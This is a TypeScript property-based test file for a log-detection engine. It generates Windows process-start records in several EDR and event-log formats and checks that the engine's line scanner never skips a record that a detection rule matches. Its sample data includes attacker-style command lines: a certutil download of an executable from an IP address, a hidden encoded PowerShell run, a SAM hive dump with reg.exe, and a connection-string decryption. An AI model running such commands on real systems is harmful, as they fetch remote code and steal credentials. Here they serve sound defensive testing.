import assert from "node:assert/strict"
import { existsSync } from "node:fs"
import { join, resolve } from "node:path"
import { test } from "node:test"
import fc from "fast-check"
import { windowsFormats } from "../../dev/log-formats/windows/formats.ts"
import { decodeAndSkip } from "../../src/engine/decode/decode.ts"
import { defaultLimits } from "../../src/engine/decode/limits.ts"
import { parseRecords } from "../../src/engine/decode/parse/parse-records.ts"
import type { RawRecord } from "../../src/engine/decode/raw-line.ts"
import { matchRecord, type RecordMatcher } from "../../src/engine/match/match-record.ts"
import { ruleSet } from "../../src/engine/match/rule-set.ts"
import { recognise, sources } from "../../src/engine/sources/index.ts"
import type { JsonObject } from "../../src/json.ts"
import { buildRule } from "../../src/rules/build.ts"
import { importRules } from "../../src/rules/load.ts"
import { readRules } from "../../src/rules/read.ts"
import { edrFormats, start } from "../engine/sources/edr-formats.ts"
import { securityStart, sysmonStart } from "../engine/sources/windows/process-starts.ts"

const RUNS = Number(process.env["RUNS"] ?? 100)
const root = join(import.meta.dirname, "../..")
const corpus = resolve(root, process.env["LANDFALL_CORPUS"] ?? "../shared/corpus", "rules/windows")

/** Landfall's own rule, and Elastic's for Windows where the corpus is. */
const built = [join(root, "site/rules"), ...(existsSync(corpus) ? [corpus] : [])]
  .flatMap((folder) => readRules(folder).map(buildRule))
  .flatMap((result) => (result.status === "compiled" ? [result.built] : []))
const rules = ruleSet(await importRules(built), sources)
const matcher: RecordMatcher = { rules, recognise, metadataSources: [], arrival: 0 }

const programs = ["aspnet_regiis.exe", "powershell.exe", "certutil.exe", "reg.exe", "notepad.exe"]
const commands = [
  "aspnet_regiis.exe -pdf connectionStrings C:\\inetpub",
  "certutil.exe -urlcache -split -f http://192.0.2.1/a.exe",
  "powershell.exe -enc ZQBjAGgAbwA= -nop -w hidden",
  "reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.hiv",
  "notepad.exe C:\\notes.txt",
  'cmd.exe /c "a:b"',
]

const formats: readonly ((name: string, commandLine: string) => JsonObject)[] = [
  ...edrFormats.map(
    ({ write }) =>
      (name: string, commandLine: string) =>
        write({ ...start, name, commandLine, originalName: name }),
  ),
  ...windowsFormats.flatMap(({ write }) => [
    (name: string, commandLine: string) =>
      write(sysmonStart({ Image: `C:\\Windows\\${name}`, CommandLine: commandLine, OriginalFileName: name })),
    (name: string, commandLine: string) =>
      write(securityStart({ NewProcessName: `C:\\Windows\\${name}`, CommandLine: commandLine })),
  ]),
]

/** Every key by which a source knows its records or their kind, whole and in its last part. */
const keys = [
  ...new Set(
    sources
      .flatMap(({ kindColumns, shapes }) => [...kindColumns.values, ...kindColumns.presence, ...shapes.flat()])
      .concat(["message", "event.original", "_source", "Records", "process.command_line", "CommandLine", "#text"])
      .flatMap((name) => [name, name.slice(name.lastIndexOf(".") + 1)]),
  ),
]

const values = [
  ...['"ProcessRollup2"', '"DnsRequest"', '"Win"', '"Lin"', "1", "4688", '"4688"', "null", "true", '""', "{}", "[]"],
  ...['"process"', '["process"]', '"start"', '"windows"', '"linux"', '"Microsoft-Windows-Sysmon"', '"Security"'],
  ...['"endpoint.events.process"', '"endpoint.events.file"', '"endgame"', '"winlogbeat"', '"DeviceProcessEvents"'],
  ...['{"category":"file"}', '{"#text":1}', '[{"a":1}]', '"{\\"event_simpleName\\":\\"ProcessRollup2\\"}"', "1e400"],
]

/** A member that anyone can add to a record, at its top or in an object. */
const added = fc
  .record({
    key: fc.constantFrom(...keys),
    value: fc.constantFrom(...values),
    around: fc.constantFrom("", "", "", "x", "event", "data"),
  })
  .map(({ key, value, around }) => {
    const member = `${JSON.stringify(key)}:${value}`
    return around === "" ? member : `"${around}":{${member}}`
  })

const line = fc
  .record({
    format: fc.constantFrom(...formats),
    program: fc.constantFrom(...programs),
    command: fc.constantFrom(...commands),
    dropped: fc.array(fc.nat(40), { maxLength: 2 }),
    before: fc.array(added, { maxLength: 2 }),
    after: fc.array(added, { maxLength: 2 }),
    isEscaped: fc.boolean(),
    isOtherKind: fc.boolean(),
    end: fc.oneof({ weight: 30, arbitrary: fc.constantFrom("", " ", "\r") }, fc.constantFrom("}", ",")),
  })
  .map(({ format, program, command, dropped, before, after, isEscaped, isOtherKind, end }) => {
    const entries = Object.entries(format(program, command)).filter((_, index) => !dropped.includes(index))
    const members = entries.map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value, exact)}`)
    const record = `{${[...before, ...members, ...after].join(",")}}${end}`
    const text = isOtherKind ? asOtherKind(record) : record
    return isEscaped ? text.replace(/[rS]/g, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`) : text
  })

/** The record as the end of a process, which fewer rules look at. */
function asOtherKind(record: string): string {
  return record
    .replaceAll('"ProcessRollup2"', '"EndOfProcess"')
    .replace(/("(?:EventID|event_id|code)":"?)(?:1|4688)("?[,}])/g, "$15$2")
    .replaceAll('"start"', '"end"')
}

function exact(_key: string, value: unknown): unknown {
  return typeof value === "bigint" ? Number(value) : value
}

/** The ids of the rules that match a raw line, read with what the scanner found out about it or without. */
function matchesOf(raw: RawRecord): string[] {
  const location = { bucket: "logs", key: "k", line: raw.line }
  return parseRecords(raw, defaultLimits)
    .records.flatMap((record) => matchRecord(record, location, matcher, raw.candidate).matches)
    .map(({ rule }) => rule.rule_id)
    .toSorted()
}

async function* bytesOf(text: string, chunk: number): AsyncGenerator<Buffer> {
  const bytes = Buffer.from(text)
  for (let at = 0; at < bytes.length; at += chunk) yield bytes.subarray(at, at + chunk)
}

test(`no line that a rule matches is skipped, and its rules are the same: ${built.length} rules, ${formats.length} formats`, async () => {
  const scanner = rules.lineScanners(recognise, defaultLimits).take()
  assert.ok(scanner)
  const seen = { lines: 0, skipped: 0, candidates: 0, matched: 0 }
  await fc.assert(
    fc.asyncProperty(
      fc.array(line, { minLength: 1, maxLength: 30 }),
      fc.constantFrom(50, 700, 100_000),
      async (lines, chunk) => {
        const text = `${lines.join("\n")}\n`
        const found = new Map<number, string[]>()
        for await (const batch of decodeAndSkip(bytesOf(text, chunk), {}, scanner)) {
          for (const raw of batch) {
            if (raw.kind === "skippable") seen.skipped += raw.count
            else if (raw.kind === "record") {
              if (raw.candidate) seen.candidates++
              found.set(raw.line, [...(found.get(raw.line) ?? []), ...matchesOf(raw)])
            }
          }
        }
        for (const [index, each] of lines.entries()) {
          const block = Buffer.from(each)
          const whole = { kind: "record", block, start: 0, end: block.length, line: index + 1, format: "json" } as const
          const expected = matchesOf({ ...whole, isWrapper: false, single: false })
          // A broken line may take lines behind it with it, in both ways: only whole lines are compared.
          if (parseRecords({ ...whole, isWrapper: false, single: false }, defaultLimits).fault !== undefined) return
          assert.deepEqual(found.get(index + 1) ?? [], expected, each)
          seen.lines++
          if (expected.length > 0) seen.matched++
        }
      },
    ),
    { numRuns: RUNS },
  )
  assert.ok(seen.matched > RUNS / 4 && seen.skipped > RUNS / 4, JSON.stringify(seen))
})
